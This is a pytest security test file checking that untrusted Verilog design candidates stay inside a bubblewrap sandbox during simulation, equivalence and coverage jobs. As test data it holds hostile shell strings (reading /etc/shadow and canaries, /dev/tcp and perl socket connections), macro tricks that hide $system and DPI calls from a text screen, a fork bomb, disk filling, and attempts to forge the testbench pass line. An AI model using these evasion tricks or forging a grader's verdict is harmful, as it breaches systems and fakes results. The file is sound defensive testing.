"""Issue #11: untrusted RTL runs in an OS sandbox (bubblewrap): no network, no writes outside its work dir,
no root, no reads of the checkout / $HOME / cache, limits kept, and the reward cannot be forged.

Every hostile candidate here passes the text screen (`eda.screen.screen(..., expand=False)` returns no
reason): it reaches system tasks through preprocessor tricks the text does not show (token pasting, macro
arguments, a macro-built DPI import, `define redefinition). The screen's macro-expansion pass refuses them;
the containment tests switch that pass off (`bypass`), as for a trick no screen knows. Then each goes through the real jobs (eval with Icarus and
Verilator, regress scoring, optimize-env scoring with a reference (equivalence co-simulation), coverage,
equivalence) with real tools, and the test checks what it could not do: canaries in the checkout and
$HOME unchanged and unread, the cache and the checkout unchanged, no file outside the work dir, no TCP
connection to a server on 127.0.0.1, limits (processes, disk) hold, and the job goes on.
"""
import hashlib
import os
import secrets
import socket
import threading
import time
from pathlib import Path

import pytest

from eda import sandbox, screen as screening
from eda.config import REPO, cache_dir
from eda.flow import FlowJob, evaluate
from eda.sandbox import Limits
from eda.screen import screen
from test_sandbox import TB   # the same inverter testbench

# A local run with RTL_AGENT_ISOLATION=off skips the module; under CI it runs, and fails (see below).
pytestmark = pytest.mark.skipif(sandbox.isolation_mode() == "off" and not os.environ.get("CI"),
                                reason="RTL_AGENT_ISOLATION=off")


def test_ci_runs_the_security_tests_sandboxed():
    """CI never passes the security module by switching the sandbox off."""
    if os.environ.get("CI"):
        assert sandbox.isolation_mode() == "bwrap", "CI must run with the bwrap sandbox (RTL_AGENT_ISOLATION=off?)"
    assert sandbox.isolation_mode() in ("bwrap", "off")

TAG = secrets.token_hex(6)
SECRET = secrets.token_hex(16)          # canary content; must never show up in any output
FAST = {"sim": Limits(wall_s=6, cpu_s=10, mem_mb=2048), "lint": Limits(wall_s=20, cpu_s=20, mem_mb=2048)}
PASTE = "`define S(x) $``x\n"          # `S(system) is $system after preprocessing; the screen sees `S(system)


class Server:
    """A TCP server on 127.0.0.1 that counts connections."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.hits = 0
        self.stop = False
        self.t = threading.Thread(target=self._loop, daemon=True)
        self.t.start()

    def _loop(self):
        while not self.stop:
            try:
                c, _ = self.sock.accept()
                self.hits += 1
                c.close()
            except OSError:
                pass

    def close(self):
        self.stop = True
        self.t.join(2)
        self.sock.close()


def _hash_tree(root: Path, skip=()) -> dict:
    out = {}
    for dirpath, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in skip]
        for f in files:
            p = Path(dirpath, f)
            try:
                out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "special"
            except OSError:
                out[str(p)] = "unreadable"
    return out


def _cmdline(p: Path) -> str:
    try:
        return (p / "cmdline").read_bytes().decode(errors="replace")
    except OSError:
        return ""


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """Canaries in the checkout and $HOME, a cache dir, a TCP server; checks after every test of the module."""
    cache = tmp_path_factory.mktemp("cache")
    (cache / "entry.json").write_text('{"status": "pass"}')
    old_cache = os.environ.get("RTL_AGENT_CACHE")
    os.environ["RTL_AGENT_CACHE"] = str(cache)
    w = {"checkout_canary": REPO / f".iso_canary_{TAG}", "home_canary": Path.home() / f".iso_canary_{TAG}",
         "cache": cache, "user_cache": cache_dir(), "server": Server()}
    for k in ("checkout_canary", "home_canary"):
        w[k].write_text(SECRET + "\n")
    w["targets"] = [REPO / f"pwned_{TAG}", Path("/tmp") / f"pwned_{TAG}", cache / f"pwned_{TAG}",
                    Path.home() / f"pwned_{TAG}", Path("/tmp") / f"pwned_dpi_{TAG}", Path("/tmp") / f"pwned_c_{TAG}"]
    w["cache_before"] = _hash_tree(cache)
    yield w
    try:
        w["server"].close()
        assert w["server"].hits == 0, "a sandboxed process reached the TCP server on 127.0.0.1"
        for k in ("checkout_canary", "home_canary"):
            assert w[k].read_text() == SECRET + "\n", f"{k} changed"
        for t in w["targets"]:
            assert not t.exists(), f"{t} was written from inside the sandbox"
        after = _hash_tree(cache)
        for f, h in w["cache_before"].items():
            assert after.get(f) == h, f"{f} in the evaluation cache changed"
        for f in set(after) - set(w["cache_before"]):     # what the jobs themselves stored (parent-written)
            p = Path(f)
            assert p.relative_to(cache).parts[0] in ("eval", "lib", "verilator-rt"), f
            assert b"pwn" not in p.read_bytes(), f
    finally:
        for k in ("checkout_canary", "home_canary"):
            w[k].unlink(missing_ok=True)
        if old_cache is None:
            os.environ.pop("RTL_AGENT_CACHE", None)
        else:
            os.environ["RTL_AGENT_CACHE"] = old_cache


def shell(w) -> str:
    """What a hostile candidate asks the shell to do (no double quotes: it sits in a Verilog string)."""
    c, h, p = w["checkout_canary"], w["home_canary"], w["server"].port
    return (f"cat {c} {h}; echo pwn > {c}; echo pwn > {h}; "
            + " ".join(f"touch {t};" for t in w["targets"][:4])
            + f" echo pwn > ../pwned_{TAG}; cat /etc/shadow; ls /work /root;"
            f" perl -MIO::Socket::INET -e 'IO::Socket::INET->new(q{{127.0.0.1:{p}}}) or exit 3';"
            f" bash -c 'echo x > /dev/tcp/127.0.0.1/{p}'; id; echo sandbox-shell-ran")


def dut(body: str, pre: str = PASTE, correct: bool = True) -> str:
    return f"""{pre}module dut(input a, output y);
  assign y = {'~a' if correct else 'a'};
{body}
endmodule
"""


def cases(w) -> dict:
    c, h = w["checkout_canary"], w["home_canary"]
    sh = shell(w)
    return {
        # system task by token pasting
        "system_by_token_paste": dut(f'  initial `S(system)("{sh}");'),
        # system task name passed as a macro argument and built by pasting in a nested macro
        "system_by_macro_argument": dut(f'  initial `RUN(sys, tem)("{sh}");',
                                        pre="`define CAT(a, b) a``b\n`define RUN(a, b) $`CAT(a, b)\n"),
        # `define redefinition: a harmless macro becomes a system task further down
        "define_redefinition": dut(f'  initial `T("{sh}");',
                                   pre="`define T $display\n`undef T\n`define T $``system\n"),
        # $fopen/$fwrite to absolute paths and ../
        "fopen_absolute_and_parent": dut(
            "  integer f;\n  initial begin\n"
            + "".join(f'    f = `S(fopen)("{t}", "w"); `S(fwrite)(f, "pwn"); `S(fclose)(f);\n'
                      for t in (c, h, w["targets"][0], w["targets"][2], f"../pwned_{TAG}"))
            + "  end"),
        # $readmemh of files outside the work dir: the canaries' hex content must not come back
        "readmemh_outside": dut(
            "  reg [127:0] m [0:1];\n  initial begin\n"
            f'    `S(readmemh)("{c}", m); $display("got %h", m[0]);\n'
            f'    `S(readmemh)("{h}", m); $display("got %h", m[0]);\n  end'),
        # `include of a file the candidate writes at run time (compile happens before: not found)
        "include_written_at_runtime": dut('  initial `S(system)("echo module evil; endmodule > inc.vh");',
                                          pre=PASTE + '`include "inc.vh"\n'),
    }


def _expect_contained(rep, w):
    """Nothing the candidate did shows up outside; the report does not carry the secret."""
    text = rep.to_json()
    assert SECRET not in text, "a canary's content reached the report"
    assert rep.to_dict()["isolation"] == "bwrap"


def ev(src, sims=("icarus",), limits=FAST, stages=("lint", "sim"), **kw):
    job = FlowJob(top="dut", tb={"tb.v": TB}, use_cache=False, stages=stages, simulators=sims, limits=limits, **kw)
    return evaluate(job, {"dut.v": src})


@pytest.fixture
def bypass(monkeypatch):
    """As if the candidate used a trick no screen knows: the screen's macro-expansion pass is switched off,
    so only the OS sandbox stands between the candidate and the machine."""
    monkeypatch.setattr(screening, "_expanded_reasons", lambda text, name: [])


def test_hostile_candidates_pass_the_text_screen_and_the_expanded_screen_refuses_them(world):
    for name, src in cases(world).items():
        assert screen(src, "dut.v", expand=False) == [], name
        if name != "include_written_at_runtime":      # its `include is missing until run time: lint judges it
            assert any("through a macro" in r for r in screen(src, "dut.v")), name


@pytest.mark.parametrize("name", ["system_by_token_paste", "system_by_macro_argument", "define_redefinition",
                                  "fopen_absolute_and_parent", "readmemh_outside", "include_written_at_runtime"])
def test_eval_icarus_contains(world, bypass, name):
    t = time.monotonic()
    rep = ev(cases(world)[name])
    assert time.monotonic() - t < 60
    _expect_contained(rep, world)
    sim = rep.stages.get("sim")
    if name == "include_written_at_runtime":
        assert rep.status == "fail" and rep.failed_stage == "lint"       # inc.vh does not exist at compile time
        return
    if name.startswith(("system", "define")):
        # Icarus 11 has no $system: a clear compile failure of the simulation (Verilator runs it, below)
        assert rep.status == "fail" and rep.failed_stage == "sim", rep.to_json()
        assert "$system" in sim.log
        return
    if name == "readmemh_outside":
        # the files are not there for it: Icarus reports it, and the testbench verdict counts that as a failure
        assert rep.status == "fail" and rep.failed_stage == "sim" and "Unable to open" in sim.log, rep.to_json()
        return
    assert rep.status == "pass", rep.to_json()   # correct logic; the file tasks did nothing outside


def test_fork_bomb_stops_at_its_limits(world, tmp_path):
    """A shell fork bomb (what a hijacked simulator could start) stops at the process limit and the wall clock."""
    t = time.monotonic()
    r = sandbox.run(["sh", "-c", f"b(){{ b|b& }}; b; sleep 30; : bomb_{TAG}"], tmp_path,
                    Limits(wall_s=4, cpu_s=8, mem_mb=1024, nproc=128))
    # the wall clock stops it, or (when the machine's other sandboxes already hold uid 65534's process
    # budget) the shell cannot fork its `sleep` and gives up: either way it ends within its limits
    assert time.monotonic() - t < 30 and not r.ok, r
    time.sleep(0.5)
    left = [p for p in Path("/proc").iterdir() if p.name.isdigit() and _cmdline(p).find(f"bomb_{TAG}") >= 0]
    assert not left, "fork bomb processes outlived the sandbox"
    r = sandbox.run(["sh", "-c", "echo alive"], tmp_path, Limits(wall_s=20))
    assert r.ok and "alive" in r.out          # processes start again: nothing of the bomb is left


def test_filling_the_disk_stops_at_the_work_dir_limit(world, tmp_path):
    t = time.monotonic()
    r = sandbox.run(["sh", "-c", "for i in 1 2 3 4 5; do head -c 60000000 /dev/zero > /tmp/big$i; done; rm -f /tmp/big*; "
                     "for i in 1 2 3 4 5 6 7 8; do head -c 30000000 /dev/zero > f$i; done; sleep 30"],
                    tmp_path, Limits(wall_s=20, out_mb=64, disk_mb=100))
    assert r.limit == "disk" and "disk limit" in r.out and time.monotonic() - t < 20, r
    assert "No space left" in r.out               # the private /tmp is a small tmpfs
    r = sandbox.run(["sh", "-c", "head -c 100000000 /dev/zero > big"], tmp_path, Limits(wall_s=20, out_mb=16))
    assert r.limit == "output", r                  # one file: RLIMIT_FSIZE


def test_verilator_shell_dpi_and_c_are_contained(world, bypass):
    """One Verilator build: $system by pasting, a DPI import of libc's system() built from a macro,
    and $c inline C++ that calls system()."""
    sh = shell(world)
    d = world["targets"]
    body = (f'  import `Q function int system(input string cmd);\n'
            f'  initial begin `S(system)("{sh}"); void\'(system("touch {d[4]}; echo dpi-ran"));\n'
            f'    `S(c)("system(\\"touch {d[5]}; echo c-ran\\");"); end')
    src = dut(body, pre=PASTE + '`define Q "DPI-C"\n')
    assert screen(src, "dut.v", expand=False) == []
    rep = ev(src, sims=("verilator",), limits={"sim": Limits(wall_s=20, cpu_s=20, mem_mb=4096)},
             stages=("sim",))                 # Icarus lint refuses the DPI import; Verilator builds it
    _expect_contained(rep, world)
    assert rep.stages["sim"].data.get("simulator") == "verilator", rep.to_json()
    log = rep.stages["sim"].log
    assert "sandbox-shell-ran" in log and "dpi-ran" in log and "c-ran" in log, log[-2000:]


def test_forged_pass_line_is_refused(world):
    """A design that prints the pass marker itself (built from a number, no string for the screen) and
    ends the simulation first does not pass, with either simulator."""
    msg = "===========Your Design Passed===========".encode().hex()
    forge = dut(f'  initial begin #1 $display("%s", {len(msg) * 4}\'h{msg}); $finish; end', pre="", correct=False)
    assert screen(forge, "dut.v") == []
    for sims in (("icarus",), ("verilator",)):
        rep = ev(forge, sims=sims, limits={"sim": Limits(wall_s=20, cpu_s=20), "lint": Limits(wall_s=60, cpu_s=60)})
        assert rep.status == "fail" and rep.failed_stage == "sim", (sims, rep.to_json())


def test_the_testbench_seal_is_out_of_the_designs_reach(world, bypass):
    """A design that gets file access past the screen reads every file it can name (the testbench source
    and its compiled form, in its folder and the one above) and echoes them, to print the testbench's own
    sealed pass line: the sealed testbench is not where the design runs, so no tag reaches the output and
    the wrong design still fails."""
    names = ("tb.v", "sim.vvp", "vobj/Vtb", "../tb.v", "../sim.vvp", "../vobj/Vtb")
    body = "  integer f, r; reg [8*400:1] line;\n  initial begin\n"
    for n in names:
        body += (f'    f = `S(fopen)("{n}", "r");\n'
                 f'    while (f != 0 && !`S(feof)(f)) begin r = `S(fgets)(line, f); $write("%0s", line); end\n')
    body += "    $finish;\n  end"
    forge = dut(body, correct=False)
    for sims in (("icarus",), ("verilator",)):
        rep = ev(forge, sims=sims, limits={"sim": Limits(wall_s=20, cpu_s=20), "lint": Limits(wall_s=60, cpu_s=60)})
        st = rep.stages.get("sim")
        assert st is not None and st.data.get("simulator") == sims[0], rep.to_json()
        assert rep.status == "fail" and rep.failed_stage == "sim", (sims, rep.to_json())
        assert "[rtla:" not in st.log and "Your Design Passed" not in st.log, (sims, st.log[-2000:])
        _expect_contained(rep, world)


def test_optimize_scoring_with_reference_equivalence(world, bypass):
    """Optimize-env scoring (evaluate with a reference): the candidate's file tasks reach Icarus only in
    the equivalence co-simulation; a $system candidate is refused by Yosys at the interface check."""
    ref = dut("", pre="")
    for body in (f'  initial `S(system)("{shell(world)}");',
                 "  integer f;\n  initial begin\n" + "".join(
                     f'    f = `S(fopen)("{t}", "w"); `S(fwrite)(f, "pwn"); `S(fclose)(f);\n'
                     for t in (world["checkout_canary"], world["home_canary"], world["targets"][0])) + "  end"):
        job = FlowJob(top="dut", ref={"ref.v": ref}, use_cache=False, stages=("lint", "equiv"))
        rep = evaluate(job, {"dut.v": dut(body)})
        _expect_contained(rep, world)
        # Yosys reads the ports without running anything: a system task it cannot resolve fails the interface
        assert rep.status == "fail" and rep.failed_stage == "interface", rep.to_json()
        assert "Can't resolve" in str(rep.stages["interface"].diagnostics), rep.to_json()


def test_equiv_job_contained(world, bypass):
    from eda.equiv import equivalence
    st = equivalence({"dut.v": dut(f'  initial `S(system)("{shell(world)}");')}, {"ref.v": dut("", pre="")}, "dut",
                     timeout_s=30)
    assert SECRET not in str(st.to_dict())
    assert st.status == "error" and "does not elaborate" in str(st.diagnostics), st.to_dict()


def test_regress_scoring_contained(world, bypass):
    from designs import load_task
    from rtl_agent.jobs.regress import score_design, summarize_design
    task = load_task("counter8")
    ref = task.reference_sources()
    text = next(iter(ref.values()))
    hostile = PASTE + text.replace("endmodule", f'  initial `S(system)("{shell(world)}");\nendmodule')
    d = score_design(task, [("s0", {"counter8.v": hostile}, "")], task.pdk)
    row = summarize_design(d, (1,))
    # the hostile copy runs contained and does not pass its testbench (the reference does)
    assert row["isolation"] == "bwrap" and d["samples"][0]["status"] == "fail", d
    assert d["samples"][0]["failed_stage"] == "sim" and d["reference"]["status"] == "pass", d
    assert SECRET not in str(d)


def test_cover_stimulus_contained(world, bypass):
    from eda.coverage import coverage_run
    stim = PASTE + (f'initial begin `S(system)("{shell(world)}"); a = 1; #20 $finish; end')
    r = coverage_run({"dut.v": dut("", pre="")}, "dut", stim)
    assert r.status == "pass" and r.points, r            # the stimulus ran (its shell in the sandbox)
    assert SECRET not in str(r.log)


def test_isolation_missing_is_a_clear_error(monkeypatch):
    monkeypatch.setattr(sandbox, "_CHECKED", {})
    monkeypatch.setenv("PATH", "/nonexistent")
    with pytest.raises(sandbox.IsolationError, match="bwrap.*not on PATH.*--no-isolation"):
        sandbox.check_isolation()


def test_no_isolation_runs_and_says_so(monkeypatch, capsys, tmp_path):
    monkeypatch.setattr(sandbox, "_CHECKED", {})
    monkeypatch.setenv("RTL_AGENT_ISOLATION", "off")
    monkeypatch.setenv("RTL_AGENT_CACHE", str(tmp_path))
    job = FlowJob(top="dut", tb={"tb.v": TB}, stages=("lint", "sim"), limits=FAST)
    rep = evaluate(job, {"dut.v": dut("", pre="")})
    assert rep.status == "pass" and rep.to_dict()["isolation"] == "off"
    assert "isolation is off" in capsys.readouterr().err
    monkeypatch.setenv("RTL_AGENT_ISOLATION", "bwrap")
    job = FlowJob(top="dut", tb={"tb.v": TB}, stages=("lint", "sim"), limits=FAST)
    rep2 = evaluate(job, {"dut.v": dut("", pre="")})
    assert not rep2.cached and rep2.to_dict()["isolation"] == "bwrap"    # an off result is not served


def test_job_keeps_running_after_the_hostile_corpus(world):
    rep = ev(dut("", pre=""))
    assert rep.status == "pass" and rep.to_dict()["isolation"] == "bwrap"
